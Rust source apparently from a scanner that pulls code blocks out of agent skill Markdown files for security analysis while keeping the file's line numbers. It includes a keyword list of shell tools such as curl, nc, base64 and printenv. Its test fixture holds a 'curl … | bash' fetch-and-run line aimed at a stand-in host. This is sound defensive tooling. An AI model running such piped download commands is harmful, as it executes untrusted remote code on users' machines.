//! SKILL.md is executed text. The code blocks of a skill's instructions are what the agent runs
//! (or tells its user to run), so besides the prose pass, which weighs every match by where it
//! sits, each block is analysed as the code it is: with the code rules, the taint pass and the
//! capability and host facts. A view keeps the file's line numbers (every line outside a block
//! of its language is blank), so findings point into the Markdown file itself.

/// One language's blocks of a Markdown file, as a code text with the file's line numbering.
pub struct CodeView {
    pub language: &'static str,
    pub text: String,
}

/// The language of a fence's info string (` ```python title="x" ` → python); `None` for data and
/// prose blocks (json, yaml, text, markdown, diff, ...).
fn fence_language(info: &str) -> Option<&'static str> {
    let tag = info
        .trim()
        .trim_start_matches('{')
        .split(|c: char| c.is_whitespace() || c == ',' || c == '}' || c == ':')
        .next()
        .unwrap_or("")
        .trim_start_matches('.')
        .to_ascii_lowercase();
    Some(match tag.as_str() {
        "python" | "py" | "python3" | "py3" | "ipython" | "pycon" => "python",
        "bash" | "sh" | "shell" | "zsh" | "console" | "shell-session" | "shellsession"
        | "terminal" | "ksh" | "fish" | "sh-session" => "shell",
        "powershell" | "ps1" | "pwsh" | "ps" => "powershell",
        "bat" | "batch" | "cmd" => "batch",
        "javascript" | "js" | "node" | "mjs" | "cjs" | "jsx" => "javascript",
        "typescript" | "ts" | "tsx" => "typescript",
        "ruby" | "rb" => "ruby",
        "perl" | "pl" => "perl",
        "php" => "php",
        "applescript" | "osascript" => "shell",
        "" => "untagged",
        _ => return None,
    })
}

/// First words that make an untagged block a shell session rather than output or data.
const SHELL_WORDS: &[&str] = &[
    "curl",
    "wget",
    "bash",
    "sh",
    "zsh",
    "sudo",
    "echo",
    "export",
    "cd",
    "chmod",
    "python",
    "python3",
    "pip",
    "pip3",
    "npm",
    "npx",
    "node",
    "git",
    "brew",
    "apt",
    "apt-get",
    "mkdir",
    "cat",
    "rm",
    "mv",
    "cp",
    "source",
    "eval",
    "base64",
    "openssl",
    "nc",
    "ssh",
    "scp",
    "osascript",
    "powershell",
    "iex",
    "irm",
    "iwr",
    "uv",
    "uvx",
    "pipx",
    "docker",
    "crontab",
    "tar",
    "unzip",
    "xattr",
    "open",
    "env",
    "printenv",
    "set",
    "./install.sh",
    "./setup.sh",
];

fn looks_like_shell(lines: &[&str]) -> bool {
    let mut commands = 0;
    let mut total = 0;
    for line in lines {
        let line = line
            .trim()
            .trim_start_matches("$ ")
            .trim_start_matches("> ");
        if line.is_empty() || line.starts_with('#') {
            continue;
        }
        total += 1;
        let first = line.split_whitespace().next().unwrap_or("");
        if SHELL_WORDS.contains(&first) || first.starts_with("./") || line.contains(" | ") {
            commands += 1;
        }
    }
    total > 0 && commands * 2 >= total
}

/// Is a fenced block (its info string and body) code someone runs, as opposed to data, output,
/// a rule language or prose?
pub fn is_code_fence(info: &str, body: &str) -> bool {
    match fence_language(info) {
        Some("untagged") => looks_like_shell(&body.lines().collect::<Vec<_>>()),
        Some(_) => true,
        None => false,
    }
}

/// The code views of a Markdown text: one per language found in its fenced blocks. Untagged
/// blocks that read as shell sessions count as shell; a prompt's `$ ` is dropped so the command
/// reads as code.
pub fn code_views(markdown: &str) -> Vec<CodeView> {
    let lines: Vec<&str> = markdown.split('\n').collect();
    // (language, first line, last line) of each block's body, 0-based.
    let mut blocks: Vec<(&'static str, usize, usize)> = Vec::new();
    let mut index = 0;
    while index < lines.len() {
        let trimmed = lines[index].trim_start();
        let marker_len = trimmed
            .chars()
            .take_while(|c| *c == '`' || *c == '~')
            .count();
        if marker_len >= 3 && (trimmed.starts_with("```") || trimmed.starts_with("~~~")) {
            let marker = &trimmed[..marker_len];
            let info = &trimmed[marker_len..];
            let close = (index + 1..lines.len()).find(|&j| {
                let t = lines[j].trim();
                t.starts_with(marker) && t.trim_start_matches(['`', '~']).is_empty()
            });
            let end = close.unwrap_or(lines.len());
            if let Some(language) = fence_language(info) {
                let language = if language == "untagged" {
                    if looks_like_shell(&lines[index + 1..end]) {
                        "shell"
                    } else {
                        "untagged"
                    }
                } else {
                    language
                };
                if language != "untagged" && end > index + 1 {
                    blocks.push((language, index + 1, end - 1));
                }
            }
            index = end + 1;
        } else {
            index += 1;
        }
    }
    let mut views: Vec<CodeView> = Vec::new();
    for (language, first, last) in blocks {
        let view = match views.iter_mut().position(|v| v.language == language) {
            Some(at) => &mut views[at],
            None => {
                views.push(CodeView {
                    language,
                    text: String::new(),
                });
                views.last_mut().expect("just pushed")
            }
        };
        // Pad with blank lines up to the block, so the view's line n is the file's line n.
        let have = view.text.matches('\n').count();
        for _ in have..first {
            view.text.push('\n');
        }
        for line in &lines[first..=last] {
            let body = if language == "shell" {
                let t = line.trim_start();
                t.strip_prefix("$ ").unwrap_or(line)
            } else {
                line
            };
            view.text.push_str(body.trim_end_matches('\r'));
            view.text.push('\n');
        }
    }
    views
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn blocks_keep_the_files_line_numbers() {
        let md = "# Title\n\nSome prose.\n\n```python\nimport os\nprint(os.environ)\n```\n\n```json\n{\"a\": 1}\n```\n\n```\n$ curl https://x.example/i.sh | bash\n```\n";
        let views = code_views(md);
        let python = views.iter().find(|v| v.language == "python").unwrap();
        assert_eq!(python.text.lines().nth(6), Some("print(os.environ)"));
        let shell = views.iter().find(|v| v.language == "shell").unwrap();
        assert_eq!(
            shell.text.lines().nth(14),
            Some("curl https://x.example/i.sh | bash")
        );
        assert!(views.iter().all(|v| !v.text.contains("\"a\"")));
    }

    #[test]
    fn untagged_output_is_not_code() {
        let md = "```\nTotal: 3 files\nDone.\n```\n";
        assert!(code_views(md).is_empty());
    }
}
